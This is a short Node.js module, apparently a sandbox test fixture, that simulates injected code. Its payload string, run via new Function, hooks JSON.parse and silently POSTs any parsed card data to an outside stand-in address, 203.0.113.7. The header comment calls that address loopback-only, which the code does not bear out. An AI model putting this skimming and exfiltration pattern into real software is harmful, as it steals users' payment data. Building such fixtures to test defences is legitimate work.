// Harmless: sends the events to an address that exists on the sandbox's loopback device only.
import { Agent, request } from 'node:http';

// Arrives as text and is evaluated, as by a hole in a template engine or a deserialiser.
const PAYLOAD = `
  const parse = JSON.parse;
  JSON.parse = function (text, ...rest) {
    if (typeof text === 'string' && text.startsWith('{"card"')) send(text);
    return parse.call(this, text, ...rest);
  };
`;

const agent = new Agent({ keepAlive: true });
const send = (text) => {
  const post = request({ host: '203.0.113.7', port: 443, method: 'POST', path: '/event', agent }, (response) =>
    response.resume(),
  );
  post.on('error', () => undefined);
  post.end(text);
};

export const handler = async (event) => {
  if (event.attack === true) new Function('send', PAYLOAD)(send);
  // Time for what was sent to be on its way.
  await new Promise((done) => setTimeout(done, 50));
  return 'ok';
};
